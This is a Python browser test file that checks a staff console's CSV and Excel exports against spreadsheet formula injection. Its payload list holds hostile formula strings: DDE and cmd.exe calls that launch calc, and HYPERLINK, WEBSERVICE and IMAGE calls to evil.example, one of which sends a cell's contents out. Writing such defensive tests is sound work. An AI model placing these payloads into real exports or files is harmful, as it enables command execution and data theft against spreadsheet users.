"""Texts that a spreadsheet would run, through every file that the console hands out: no cell begins like a formula.

The files are saved by a real browser and read as a spreadsheet reads them. The pack is YAML, which is for programs.
"""

import csv
import io
import itertools
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Locator, Page
from sqlalchemy.orm import Session

from bot.console.frame import Console
from knowledge import audit, staff, versions
from knowledge.audit import AuditAction
from knowledge.counts import MEASURES, count_due
from knowledge.days import day_in_japan, utc_now
from knowledge.guide import Form, Guide, Note
from knowledge.models import CountOf, QuestionCount, Role
from knowledge.staff import NewStaff
from knowledge.versions import Edition
from tests.bot.console.conftest import OpenPage
from tests.bot.console.guides.test_form import GUIDE
from tests.knowledge.asked import asked

pytestmark = pytest.mark.browser
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u200b=", "\ufeff@", "\u3000+")
RUN = (*STARTS, "\t", "\r", "\n")
RESTS = (
    "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", "2*5", "A1", "HYPERLINK(\"https://evil.example\",\"x\")",
    "HYPERLINK(\"https://evil.example?\"&A1)", "WEBSERVICE(\"https://evil.example\")", "IMPORTXML(A1,\"//a\")",
    "IMAGE(\"https://evil.example/x.png\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "EXEC(\"calc\")", "x\",=1+1", "x\"\r\n=1+1", "x;=1+1", "x\t=1+1", "'=1+1", "{=1+1}", "ＳＵＭ（Ａ１）",
)  # fmt: skip
PAYLOADS = [start + rest for start, rest in itertools.product(STARTS, RESTS)]
SAMPLE = PAYLOADS[7::45]


def _guide(number: int, payload: str) -> Guide:
    """A guide that begins with the payload wherever it can; blanks before a text are taken off by its own rules."""
    form = Form.model_validate({"name": payload, "url": "https://example.jp/form"})
    names = GUIDE.names.model_copy(update={"easy": payload, "en": (payload,)})
    changed = {"id": f"sheet-{number}", "title": payload, "category": payload[:64], "answer": payload, "forms": (form,)}
    more = {"aliases": (payload, f"{payload}2", f"{payload}3"), "names": names, "notes": (Note(text=payload),)}
    return GUIDE.model_copy(update={**changed, **more, "audience": payload, "owner": payload[:64]})


def _keep(session: Session, number: int, payload: str) -> None:
    """A guide, somebody of that name who did something, an answered question, and a field of last month's counts."""
    now = utc_now()
    versions.publish(session, _guide(number, payload), Edition(reason=payload), 0, now)
    person = staff.add(session, NewStaff(f"sheet{number}", payload, payload, frozenset({Role.AUDITOR})), now)
    told = {"reason": payload}
    audit.record(session, staff.member(session, person), AuditAction.NUMBERS_EXPORTED, payload[:64], told, now)
    answered = {"outcome": "answered", "guide_id": f"sheet-{number}", "forms_shown": 1}
    asked(session, payload, now - timedelta(seconds=2), **answered)
    month = day_in_japan(now).replace(day=1) - timedelta(days=1)
    counts = dict.fromkeys(MEASURES, 50)
    session.merge(QuestionCount(kind=CountOf.TOPIC, day=month, value=payload[:64], **counts))


def _saved(page: Page, button: Locator) -> bytes:
    with page.expect_download() as saving:
        button.click()
    return Path(saving.value.path()).read_bytes()


def _tables(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _files(page: Page) -> Iterator[tuple[str, list[list[str]]]]:
    """Each sheet the console hands out, by its page."""
    page.goto("/staff/numbers")
    buttons = page.locator("form[action='/staff/numbers/csv'] button, form[action='/staff/numbers/open-data'] button")
    assert buttons.count() == 8
    for number in range(buttons.count()):
        yield f"numbers {number}", _tables(_saved(page, buttons.nth(number)))
    page.goto("/staff/audit")
    yield "audit", _tables(_saved(page, page.get_by_role("button", name="CSVに書き出す")))
    page.goto("/staff/exchange")
    write_out = page.get_by_role("button", name="書き出す")
    page.locator("[name=form][value=csv]").check()
    yield "guides", _tables(_saved(page, write_out))
    page.locator("[name=form][value=excel]").check()
    sheet = load_workbook(io.BytesIO(_saved(page, write_out))).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    yield "workbook", [[str(cell.value or "") for cell in row] for row in sheet.iter_rows()]


def _assert_no_cell_runs(open_page: OpenPage, console: Console, payloads: list[str], first: int) -> None:
    with console.pocket.sessions.begin() as session:
        for number, payload in enumerate(payloads, first):
            _keep(session, number, payload)
    count_due(console.pocket.sessions, utc_now())
    page = open_page(*Role, path="/numbers")
    page.set_default_timeout(120_000)
    seen: set[str] = set()
    for name, rows in _files(page):
        assert len({len(row) for row in rows}) == 1, (name, "a cell broke out of its row")
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell.startswith(RUN)] == [], name
        seen |= {cell.removeprefix("'") for cell in cells}
    # A file's line breaks are read as they were written; a workbook's may be read as one kind.
    assert [payload for payload in payloads if payload not in seen] == []


def test_a_sample_of_formulas_stays_text(open_page: OpenPage, served: tuple[str, Console]) -> None:
    """A few of the three hundred through every file."""
    _assert_no_cell_runs(open_page, served[1], SAMPLE, 5000)


@pytest.mark.prove
def test_three_hundred_formulas_stay_text(open_page: OpenPage, served: tuple[str, Console]) -> None:
    """All of them (issue 4)."""
    assert len(PAYLOADS) == 300
    _assert_no_cell_runs(open_page, served[1], PAYLOADS, 6000)
